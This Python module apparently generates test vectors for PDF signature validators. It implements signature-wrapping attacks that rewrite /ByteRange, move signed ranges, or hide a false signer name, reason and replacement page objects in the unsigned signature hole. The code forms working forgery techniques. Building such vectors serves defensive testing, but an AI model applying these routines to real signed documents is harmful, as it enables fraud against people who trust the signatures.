"""Signature wrapping (SWA): the hole that /ByteRange leaves is made to hold more than the signature, or what is signed is moved about."""

from __future__ import annotations

import re

from vectors.attacks import bytework
from vectors.attacks.bytework import FORGED_WORDS, gap, stream
from vectors.attacks.samples import attack

GROUP = "Signature wrapping"
TWINS = ("service-bt", "service-p1", "house-sealed")
_RANGE = re.compile(rb"/ByteRange \[\s*(\d+) (\d+) (\d+) (\d+)\s*\] *")


def _evil(at: int) -> tuple[bytes, dict[int, int]]:
    """A page's content of the forger's own, and where it stands when it is put ``at`` there."""
    return b"4 0 obj\n%b\nendobj\n" % stream(FORGED_WORDS), {4: at}


def _moved(pdf: bytes, *, padding: bool) -> bytes:
    """The second signed stretch behind a hole in which objects, a table and another /ByteRange stand."""
    start, end = gap(pdf)
    second = pdf[end:]
    table_at = bytework.last_table(pdf)
    hexadecimal = pdf[start:end] if padding else b"<%b>" % bytework.contents(pdf).hex().encode()
    room = b" " * 60
    head = pdf[:start] + hexadecimal + b" /ByteRange [0 %d "
    told = head.rpartition(b"/ByteRange")[0]
    evil_at = len(told) + len(b"/ByteRange [0 ") + len(room) + len(b"] >>\nendobj\n")
    evil, offsets = _evil(evil_at)
    before = evil_at + len(evil)
    # The signed tail says where its table is. If that place is still ahead, the forger's table is put exactly there.
    xref_at = max(before, table_at)
    table = b"xref\n4 1\n%010d 00000 n \n" % offsets[4]
    root, previous = bytework.root_number(pdf), _previous(pdf)
    table += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (bytework.next_number(pdf), root, previous)
    moved_to = xref_at + len(table)
    ranged = b"/ByteRange [0 " + b"%d %d %d" % (start, moved_to, len(second))
    made = told + (ranged + b"]").ljust(len(b"/ByteRange [0 ") + len(room) + 1) + b" >>\nendobj\n"
    made += evil
    made = made.ljust(xref_at) + table + second
    return made if xref_at == table_at else made + b"startxref\n%d\n%%%%EOF\n" % xref_at


def _previous(pdf: bytes) -> int:
    found = re.findall(rb"/Prev (\d+)", pdf)
    return int(found[-1]) if found else 0


@attack(GROUP, *TWINS)
def second_part_moved(pdf: bytes) -> bytes:
    """The second signed stretch moved back; the hole holds the whole string, another /ByteRange, objects and a table."""
    return _moved(pdf, padding=True)


@attack(GROUP, *TWINS)
def second_part_moved_without_padding(pdf: bytes) -> bytes:
    """The same, with the string's padding given up for the forger's objects."""
    return _moved(pdf, padding=False)


@attack(GROUP, *TWINS)
def hole_widened(pdf: bytes) -> bytes:
    """/ByteRange rewritten to leave out more, and the entries there replaced."""
    found = list(_RANGE.finditer(pdf))[-1]
    first, before, after, rest = (int(number) for number in found.groups())
    told = b"/ByteRange [%d %d %d %d]" % (first, before, after + 60, rest - 60)
    pdf = pdf[: found.start()] + told.ljust(len(found[0])) + pdf[found.end() :]
    return bytework.repriced(pdf)


@attack(GROUP, *TWINS)
def hole_before_the_string(pdf: bytes) -> bytes:
    """The hole begins earlier, so that it takes in what stands before the string."""
    found = list(_RANGE.finditer(pdf))[-1]
    first, before, after, rest = (int(number) for number in found.groups())
    told = b"/ByteRange [%d %d %d %d]" % (first, before - 200, after, rest)
    return bytework.repriced(pdf[: found.start()] + told.ljust(len(found[0])) + pdf[found.end() :])


def _in_the_hole(pdf: bytes, extra: bytes) -> bytes:
    """The string cut to what the CMS needs, and ``extra`` in the room that this leaves. All that is covered stays."""
    start, end = gap(pdf)
    held = b"<%b>" % bytework.contents(pdf).hex().encode() + extra
    if len(held) > end - start:
        raise ValueError("no room in the hole")
    return pdf[:start] + held.ljust(end - start) + pdf[end:]


@attack(GROUP, *TWINS)
def spaces_in_the_hole(pdf: bytes) -> bytes:
    """The string's padding turned into spaces."""
    return _in_the_hole(pdf, b"")


@attack(GROUP, *TWINS)
def entries_in_the_hole(pdf: bytes) -> bytes:
    """Another name and reason in the hole, which no digest covers."""
    return _in_the_hole(pdf, b" /Name (Somebody Else) /Reason (Agreed at 9000 yen)")


@attack(GROUP, *TWINS)
def second_range_in_the_hole(pdf: bytes) -> bytes:
    """A second /ByteRange in the hole."""
    return _in_the_hole(pdf, b" /ByteRange [0 10 20 30]")


@attack(GROUP, *TWINS)
def comment_in_the_hole(pdf: bytes) -> bytes:
    """A comment in the hole with a whole object in it."""
    return _in_the_hole(pdf, b"% 4 0 obj << >> endobj")


@attack(GROUP, *TWINS)
def object_in_the_hole(pdf: bytes) -> bytes:
    """The page's content anew in the hole, and a table behind the end that leads there."""
    start, _end = gap(pdf)
    cut = start + 2 + 2 * len(bytework.contents(pdf))
    evil = b" >>\nendobj\n4 0 obj\n%b\nendobj\n" % stream(FORGED_WORDS)
    held = _in_the_hole(pdf, evil)
    place = cut + len(b" >>\nendobj\n")
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (
        bytework.next_number(pdf), bytework.root_number(pdf), bytework.last_table(pdf),
    )  # fmt: skip
    return held + b"xref\n4 1\n%010d 00000 n \n" % place + trailer + b"startxref\n%d\n%%%%EOF\n" % len(held)


@attack(GROUP, *TWINS)
def dictionary_again_with_own_range(pdf: bytes) -> bytes:
    """An update with the signature dictionary once more, whose /ByteRange leaves out all that was added before it."""
    _name, value = bytework.last_signature(pdf)
    size, cms = len(pdf), bytework.contents(pdf).hex().encode()
    held = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 %d %d %d] /Contents <%b> >>"
    start, end = gap(pdf)
    return bytework.behind(pdf, {value: held % (start, end, size - end, cms), 4: stream(FORGED_WORDS)})


@attack(GROUP, "service-two", "house-sealed")
def first_in_place_of_second(pdf: bytes) -> bytes:
    """The first signature's string in the place of the second's."""
    return bytework.refilled(pdf, bytework.contents(pdf, 0), -1)


@attack(GROUP, "service-bt")
def whole_string_covered(pdf: bytes) -> bytes:
    """/ByteRange rewritten so that no hole is left."""
    found = list(_RANGE.finditer(pdf))[-1]
    told = b"/ByteRange [0 %d %d 0]" % (len(pdf), len(pdf))
    return bytework.repriced(pdf[: found.start()] + told.ljust(len(found[0])) + pdf[found.end() :])
